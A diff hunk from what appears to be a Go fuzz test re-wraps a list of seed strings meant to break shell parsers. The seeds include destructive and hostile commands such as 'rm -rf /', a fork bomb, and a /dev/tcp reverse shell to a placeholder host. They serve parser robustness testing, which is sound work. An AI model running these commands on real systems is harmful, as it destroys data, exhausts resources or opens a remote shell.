@@ -10,12 +10,17 @@ import (
 
 // seeds are shapes that have broken parsers and interpreters.
 var seeds = []string{
-	`rm -rf /`, `X=(a b); "${X[@]}"`, `$(echo rm) -rf /`, "bash <<'E'\nx\nE", `a=$((b[$(x)]))`, `for ((;;)); do :; done`, `while read x; do $x; done <<< y`, `f(){ f|f& };f`, `{1..9}{1..9}{1..9}{1..9}`,
-	`x=xx; x=$x$x; x=$x$x; x=$x$x; echo $x`, `${a:-${b:-${c}}}`, `((((((`, `$(((((`, "`\\`\\\\`", `case x in *) ;; esac`, `[[ a =~ (b ]]`, `exec 3<>/dev/tcp/h/1; sh <&3 >&3`, `trap 'eval "$X"' EXIT`, `printf '%*d' 5`, `printf %s{,,}{,,}`,
+	`rm -rf /`, `X=(a b); "${X[@]}"`, `$(echo rm) -rf /`, "bash <<'E'\nx\nE", `a=$((b[$(x)]))`, `for ((;;)); do :; done`,
+	`while read x; do $x; done <<< y`, `f(){ f|f& };f`, `{1..9}{1..9}{1..9}{1..9}`,
+	`x=xx; x=$x$x; x=$x$x; x=$x$x; echo $x`, `${a:-${b:-${c}}}`, `((((((`, `$(((((`, "`\\`\\\\`", `case x in *) ;; esac`,
+	`[[ a =~ (b ]]`, `exec 3<>/dev/tcp/h/1; sh <&3 >&3`, `trap 'eval "$X"' EXIT`, `printf '%*d' 5`, `printf %s{,,}{,,}`,
 	`export A`, `declare x`, `local`, `readonly -p`, `export -n y`, `let`, `typeset -A`, `nameref r=x`,
 	`read -u -1 x`, `printf "%.-5s" abc`, `>&-1`, `shift -1`, `${x: -9:-9}`, `{1..9223372036854775807}`,
-	`echo ${x//$(y)/$z}`, `cat <(a) >(b)`, `alias a=a; a`, `alias a='b ' b='a '; a`, `eval eval eval eval x`, `sh -c 'sh -c "sh -c x"'`, `xargs xargs xargs rm`, `find . -exec find . -exec rm {} \; \;`, `env -S 'env -S "rm x"'`, `${!x*}`, `${x@Q}`, `a[1]=x`,
-	"\xff\xfe", "x\x00y", "é=1; $é", "<<<", ">&", "|||", "function", `declare -A x=([a]=b); ${x[a]}`, `coproc x { y; }`, `time -p`, `! ! !`, `a=~; cd $a`, `IFS=; set -- $*`, `read -a x -d ''`, `mapfile -C 'rm' -c 1`,
+	`echo ${x//$(y)/$z}`, `cat <(a) >(b)`, `alias a=a; a`, `alias a='b ' b='a '; a`, `eval eval eval eval x`,
+	`sh -c 'sh -c "sh -c x"'`, `xargs xargs xargs rm`, `find . -exec find . -exec rm {} \; \;`, `env -S 'env -S "rm x"'`,
+	`${!x*}`, `${x@Q}`, `a[1]=x`,
+	"\xff\xfe", "x\x00y", "é=1; $é", "<<<", ">&", "|||", "function", `declare -A x=([a]=b); ${x[a]}`, `coproc x { y; }`,
+	`time -p`, `! ! !`, `a=~; cd $a`, `IFS=; set -- $*`, `read -a x -d ''`, `mapfile -C 'rm' -c 1`,
 }
 
 // Whatever the text, the walk ends, says something of an honest kind, and a
